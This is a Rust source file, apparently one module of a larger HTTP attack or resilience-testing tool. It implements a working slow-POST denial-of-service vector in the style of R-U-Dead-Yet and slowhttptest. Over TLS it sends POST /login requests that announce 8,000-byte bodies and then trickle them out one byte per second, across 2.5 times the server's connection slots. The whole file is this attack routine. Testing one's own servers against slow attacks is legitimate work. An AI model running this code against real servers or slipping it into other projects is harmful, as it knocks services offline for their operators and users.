//! `slow-body`: forms whose body comes a byte at a time

use std::{sync::Arc, time::Duration};

use crate::{
    clock,
    target::Source,
    vectors::{
        Family, Front, Resource, Vector,
        flood::{BROWSER, with},
        hoard::hoard,
    },
    wire::Wire,
};

pub(super) const VECTOR: Vector = Vector {
    name: "slow-body",
    family: Family::Slow,
    models: "forms whose body comes a byte at a time",
    source: "R-U-Dead-Yet (2010); slowhttptest -B",
    parameters: "TLS; POST /login with 8,000 bytes announced, one byte a second; 2.5 times the \
        seats of the server",
    resource: Resource::Seats { times: 2.5 },
    room: None,
    attack: |front| Box::pin(hoard(front, hold)),
};

/// Between two bytes.
const PAUSE: Duration = Duration::from_secs(1);

async fn hold(front: Arc<Front>, source: Source, _lot: u64) {
    let Ok(stream) = front.secure(source).await else { return };
    let _held = front.ledger.hold();
    let mut wire = Wire::new(stream);
    let fields = [BROWSER[0], ("Content-Type", "application/x-www-form-urlencoded")];
    let mut request = with(&front, "POST", "/login", &fields, &[b'a'; 8_000]);
    request.truncate(request.len() - 7_999);
    let mut sent = wire.send(&request).await;
    while sent.is_ok() {
        let next = clock::now() + PAUSE;
        match tokio::time::timeout_at(next.into(), wire.answer()).await {
            Ok(Ok(answer)) => return front.ledger.answered(&answer),
            Ok(Err(_)) => return,
            Err(_) => sent = wire.send(b"a").await,
        }
    }
}
